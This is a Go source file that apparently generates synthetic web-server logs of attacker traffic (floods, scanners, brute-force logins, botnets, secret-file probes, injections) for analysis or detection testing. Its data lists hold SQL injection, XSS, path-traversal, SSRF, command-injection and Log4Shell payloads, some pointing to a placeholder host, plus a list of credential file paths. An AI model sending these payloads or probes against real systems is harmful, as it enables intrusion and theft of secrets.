package traffic

import (
	"fmt"
	"net/netip"
	"strings"
)

// Attacker kinds.
const (
	KindFlood    = "flood"        // one address, tens to thousands of GETs a second
	KindDAVLoop  = "dav-loop"     // PROPFIND/OPTIONS on one path in a loop
	KindScanner  = "scanner"      // a wordlist at several requests a second
	KindSlowScan = "slow-scanner" // a wordlist, one request every 5-30 s
	KindBFFast   = "bf-fast"      // hydra/wpscan against the login form
	KindBFSlow   = "bf-slow"      // one guess every 20-120 s
	KindBFSpread = "bf-spread"    // a botnet: each address a few guesses minutes apart
	KindBFToken  = "bf-token"     // guesses at a token/API auth endpoint
	KindProbe    = "probe"        // one or two requests for secret files
	KindInject   = "inject"       // a few requests with injection payloads
	KindV6Rotate = "v6-rotate"    // a scanner or guesser on a new address of its /64 every request
)

var (
	wordlist = []string{"/admin", "/administrator/", "/backup/", "/backup.zip", "/db.sql", "/phpmyadmin/", "/wp-admin/",
		"/config.php", "/test.php", "/info.php", "/server-status", "/.DS_Store", "/api/v1/debug", "/console", "/actuator/health",
		"/solr/", "/cgi-bin/test.cgi", "/old/", "/dev/", "/tmp/", "/install.php", "/setup/", "/manager/html", "/jenkins/",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/", "/mysql/", "/pma/", "/upload/", "/uploads/",
		"/shell.php", "/cmd.php", "/.svn/entries", "/web.config", "/sitemap.xml.gz", "/debug/", "/staging/", "/v2/api-docs",
		"/swagger-ui.html", "/graphql", "/.well-known/security.txt", "/crossdomain.xml", "/login.jsp", "/portal/"}
	secretFiles = []string{"/.env", "/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/config/database.yml",
		"/.ssh/id_rsa", "/backup.sql", "/.htpasswd", "/server.key", "/.npmrc", "/docker-compose.yml", "/.git/HEAD",
		"/app/.env", "/api/.env", "/.env.production", "/config.json.bak", "/.vscode/sftp.json", "/wp-config.php~"}
	payloads = []string{"id=1%27%20OR%20%271%27%3D%271", "id=1+UNION+SELECT+username,password+FROM+users--",
		"q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "file=../../../../etc/passwd", "x=${jndi:ldap://203.0.113.9:1389/a}",
		"cmd=;cat%20/etc/passwd", "page=http://203.0.113.9/shell.txt?", "q=1%22%3E%3Csvg/onload=alert(1)%3E",
		"id=1;WAITFOR+DELAY+%270:0:5%27--", "name={{7*7}}", "url=http://169.254.169.254/latest/meta-data/"}
	tokenPaths = []string{"/api/auth/token", "/oauth/token", "/api/v1/sessions", "/api/login", "/oauth2/token"}
)

// floods: LOIC/HULK-style tools on one address for 15-75 s at the
// variant's rate: one URL, one path with a random query, a handful of
// URLs, the site's own pages, or a replay of browsing (pages, assets and
// referers as a person sends them); the server answers some with 503.
func (g *gen) flood(rate float64) {
	c := g.client(KindFlood, true)
	addr := g.attackerAddr()
	ua := pick(g.rng, append(toolUAs, browserUAs...))
	start := g.rng.Float64() * (g.dur - 80)
	dur := 15 + g.rng.Float64()*60
	mode := g.rng.IntN(5)
	handful := []string{g.site.page(g.rng), g.site.page(g.rng), g.site.page(g.rng), g.site.page(g.rng), g.site.page(g.rng)}
	shed := 0.02 + g.rng.Float64()*0.25 // share the server sheds with 503
	target := g.site.page(g.rng)
	g.note(c, fmt.Sprintf("%s at %.0f/s for %.0f s from %s, %s, %.0f %% answered 503", floodModes[mode], rate, dur, addr, ua, 100*shed))
	for t := start; t < start+dur; t += expo(g.rng, 1/rate) {
		var path, ref string
		switch mode {
		case 0:
			path = target
		case 1:
			path = fmt.Sprintf("/?%s=%d", randWord(g), g.rng.IntN(1e9))
		case 2:
			path = pick(g.rng, handful)
		case 3:
			path = g.site.page(g.rng)
		default:
			// A replay of browsing: pages with their assets and referers,
			// the mix a person sends, only at the flood's rate.
			page := g.site.page(g.rng)
			path, ref = page, "https://shop.example/"
			if as := g.site.assets(g.rng, page, true); g.rng.IntN(4) != 0 {
				path, ref = pick(g.rng, as), "https://shop.example"+page
			}
		}
		st := 200
		if g.rng.Float64() < shed {
			st = 503
		}
		g.overload(t)
		g.emit(c, addr, t, "GET", path, st, ref, ua)
	}
}

// floodModes name flood's five kinds, for -v.
var floodModes = [...]string{"one URL", "cache-busting query on /", "a handful of URLs", "the site's pages", "a replay of browsing (pages, assets, referers)"}

func randWord(g *gen) string {
	var b strings.Builder
	for range 3 + g.rng.IntN(6) {
		b.WriteByte(byte('a' + g.rng.IntN(26)))
	}
	return b.String()
}

// davLoop: PROPFIND or OPTIONS on one path, tens a second.
func (g *gen) davLoop() {
	c := g.client(KindDAVLoop, true)
	addr := g.attackerAddr()
	m, st := "PROPFIND", 207
	if g.rng.IntN(2) == 0 {
		m, st = "OPTIONS", 200
	}
	path := pick(g.rng, []string{"/", "/remote.php/dav/", "/webdav/", "/index.php"})
	rate := 20 + g.rng.Float64()*40
	start := g.rng.Float64() * (g.dur - 80)
	dur := 15 + g.rng.Float64()*60
	for t := start; t < start+dur; t += expo(g.rng, 1/rate) {
		g.emit(c, addr, t, m, path, st, "", "Microsoft-WebDAV-MiniRedir/10.0.19045")
	}
}

// scan walks a wordlist (with the site's own names mixed in) from addr;
// one of the addresses next() gives per request.
func (g *gen) scan(c int32, next func() netip.Addr, start, gap float64, n int, ua string) {
	t := start
	for i := 0; i < n && t < g.dur; i++ {
		path := wordlist[g.rng.IntN(len(wordlist))]
		if g.rng.IntN(3) == 0 {
			path = fmt.Sprintf("/%s%d/", randWord(g), g.rng.IntN(100))
		}
		st := 404
		switch g.rng.IntN(20) {
		case 0:
			st = 403
		case 1:
			st = 301
		}
		g.emit(c, next(), t, "GET", path, st, "", ua)
		t += expo(g.rng, gap)
	}
}

func (g *gen) scanner() {
	c := g.client(KindScanner, true)
	addr := g.attackerAddr()
	ua := pick(g.rng, append(toolUAs, browserUAs[0]))
	g.scan(c, func() netip.Addr { return addr }, g.rng.Float64()*g.dur*0.8, 1/(3+g.rng.Float64()*17), 80+g.rng.IntN(320), ua)
}

func (g *gen) slowScanner() {
	c := g.client(KindSlowScan, true)
	addr := g.attackerAddr()
	n, gap := 40+g.rng.IntN(110), 5+g.rng.Float64()*25
	gap = min(gap, g.dur/45) // at least ~40 probes inside the log
	g.note(c, fmt.Sprintf("word list, one every %.0f s on average", gap))
	g.scan(c, func() netip.Addr { return addr }, g.rng.Float64()*max(g.dur-40*gap, 0), gap, n, pick(g.rng, browserUAs))
}

// guess sends login attempts: the refusal the site gives, sometimes after
// fetching the form (for its CSRF token).
func (g *gen) guess(c int32, next func() netip.Addr, path string, start, gap float64, n int, ua string, form bool) {
	t := start
	for i := 0; i < n && t < g.dur; i++ {
		a := next()
		if form {
			g.emitPage(c, a, t, "GET", path, 200, "", ua)
			t += 0.3
		}
		st := 401
		switch {
		case path == "/xmlrpc.php":
			st = 200
		case path == g.site.loginAt && g.site.formOK:
			st = 200
		case strings.HasPrefix(path, "/api/") || strings.Contains(path, "token") && g.rng.IntN(4) == 0:
			st = pick(g.rng, []int{401, 401, 401, 403})
		}
		g.emit(c, a, t, "POST", path, st, "", ua)
		t += expo(g.rng, gap)
	}
}

func (g *gen) bfFast() {
	c := g.client(KindBFFast, true)
	addr := g.attackerAddr()
	path := pick(g.rng, []string{g.site.loginAt, g.site.loginAt, "/wp-login.php", "/xmlrpc.php"})
	g.guess(c, func() netip.Addr { return addr }, path, g.rng.Float64()*g.dur*0.8, 1/(0.5+g.rng.Float64()*4.5),
		30+g.rng.IntN(370), pick(g.rng, append(toolUAs, browserUAs[0])), g.rng.IntN(2) == 0)
}

func (g *gen) bfSlow() {
	c := g.client(KindBFSlow, true)
	addr := g.attackerAddr()
	gap := min(20+g.rng.Float64()*100, g.dur/12) // at least ~10 guesses inside the log
	g.note(c, fmt.Sprintf("POST %s every %.0f s on average", g.site.loginAt, gap))
	g.guess(c, func() netip.Addr { return addr }, g.site.loginAt, g.rng.Float64()*max(g.dur-10*gap, 0), gap, 1000, pick(g.rng, browserUAs), g.rng.IntN(3) == 0)
}

// bfSpread: a botnet spreads guesses over many addresses, each trying a
// handful of passwords minutes apart.
func (g *gen) bfSpread(bots int) {
	path := pick(g.rng, []string{"/wp-login.php", "/xmlrpc.php", g.site.loginAt})
	for range bots {
		c := g.client(KindBFSpread, true)
		addr := g.attackerAddr()
		n := 3 + g.rng.IntN(10)
		gap := min(30+g.rng.Float64()*150, g.dur/float64(2*n)) // all its guesses inside the log
		start := g.rng.Float64() * max(g.dur-float64(n)*gap*1.5, 0)
		g.note(c, fmt.Sprintf("botnet member: POST %s, %d guesses every %.0f s on average", path, n, gap))
		g.guess(c, func() netip.Addr { return addr }, path, start, gap, n, pick(g.rng, browserUAs), false)
	}
}

func (g *gen) bfToken() {
	c := g.client(KindBFToken, true)
	addr := g.attackerAddr()
	g.guess(c, func() netip.Addr { return addr }, pick(g.rng, tokenPaths), g.rng.Float64()*g.dur*0.7, 0.5+g.rng.Float64()*1.5,
		30+g.rng.IntN(270), pick(g.rng, toolUAs), false)
}

func (g *gen) probe() {
	c := g.client(KindProbe, true)
	addr := g.attackerAddr()
	t := g.rng.Float64() * g.dur
	var sent []string
	for range 1 + g.rng.IntN(2) {
		p := pick(g.rng, secretFiles)
		g.emit(c, addr, t, "GET", p, 404, "", pick(g.rng, toolUAs))
		sent = append(sent, p)
		t += 0.5
	}
	g.note(c, "GET "+strings.Join(sent, ", ")+" answered 404")
}

func (g *gen) inject() {
	c := g.client(KindInject, true)
	addr := g.attackerAddr()
	t := g.rng.Float64() * g.dur
	ua := pick(g.rng, append(toolUAs, browserUAs...))
	for range 1 + g.rng.IntN(5) {
		path := pick(g.rng, []string{"/search", "/products/view", "/index.php", "/api/v1/items"})
		g.emit(c, addr, t, "GET", path+"?"+pick(g.rng, payloads), pick(g.rng, []int{200, 400, 404, 500}), "", ua)
		t += expo(g.rng, 2)
	}
}

// v6Rotate: a scanner or a token guesser on a new address of its /64
// for every request.
func (g *gen) v6Rotate() {
	c := g.client(KindV6Rotate, true)
	net := g.attackerNet6()
	next := func() netip.Addr { return g.in64(net) }
	if g.rng.IntN(2) == 0 {
		g.scan(c, next, g.rng.Float64()*g.dur*0.8, 1/(2+g.rng.Float64()*10), 80+g.rng.IntN(200), pick(g.rng, toolUAs))
		return
	}
	g.guess(c, next, pick(g.rng, append(tokenPaths, g.site.loginAt)), g.rng.Float64()*g.dur*0.7, 0.5+g.rng.Float64()*3,
		30+g.rng.IntN(150), pick(g.rng, toolUAs), false)
}
